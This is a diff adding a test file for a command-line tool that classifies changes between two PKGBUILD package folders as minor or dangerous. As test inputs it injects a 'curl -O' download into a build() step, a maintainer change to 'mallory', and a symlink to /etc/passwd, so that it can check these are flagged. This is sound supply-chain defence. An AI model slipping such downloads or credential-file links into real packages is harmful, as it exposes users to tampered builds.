@@ -1,0 +1,72 @@
+import { spawnSync } from "node:child_process";
+import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterAll, expect, test } from "vitest";
+import { bumped, filesOf, recipes } from "./recipes.ts";
+
+const folder = mkdtempSync(join(tmpdir(), "sluice-classify-"));
+afterAll(() => rmSync(folder, { recursive: true }));
+
+function write(name: string, pkgbuild: string): string {
+  const dir = join(folder, name);
+  mkdirSync(dir);
+  for (const [path, { bytes }] of filesOf("cmake", pkgbuild)) writeFileSync(join(dir, path), bytes);
+  return dir;
+}
+
+function classify(...args: string[]): { status: number | null; stdout: string; stderr: string } {
+  const { status, stdout, stderr } = spawnSync(process.execPath, ["dist/cli/main.js", "classify", ...args], {
+    encoding: "utf8",
+  });
+  return { status, stdout, stderr };
+}
+
+const old = write("old", recipes.cmake.PKGBUILD);
+const next = write("next", bumped("cmake"));
+
+test("a new version and nothing else is minor, and exits 0", () => {
+  expect(classify(old, next)).toEqual({ status: 0, stdout: "minor\n", stderr: "" });
+});
+
+test("a download says where it is, worst first, and exits 1", () => {
+  const text = bumped("cmake").replace("build() {\n", "build() {\n  curl -O https://x.example\n");
+  const { status, stdout } = classify(old, write("evil", text));
+  expect(status).toBe(1);
+  expect(stdout.split("\n").slice(0, 2)).toEqual([
+    "dangerous",
+    "danger  PKGBUILD:21: downloads something beside the sources: curl -O https:// (download)",
+  ]);
+});
+
+test("new maintainers without a new version are an adoption", () => {
+  const { status, stdout } = classify(
+    old,
+    old,
+    "--maintainers-before",
+    "ann",
+    "--maintainers-after",
+    "mallory",
+    "--json",
+  );
+  expect(status).toBe(1);
+  expect(JSON.parse(stdout)).toMatchObject({
+    verdict: "dangerous",
+    findings: [{ rule: "adoption", before: "ann", after: "mallory" }],
+  });
+});
+
+test("a link is judged, not followed", () => {
+  const dir = write("link", bumped("cmake"));
+  symlinkSync("/etc/passwd", join(dir, "passwd"));
+  const { status, stdout } = classify(old, dir);
+  expect(status).toBe(1);
+  expect(stdout).toContain("link-escapes");
+  expect(stdout).not.toContain("root:");
+});
+
+test("a folder that isn't there is an error that says what to give", () => {
+  const { status, stderr } = classify(old, join(folder, "missing"));
+  expect(status).toBe(2);
+  expect(stderr).toContain("two folders");
+});
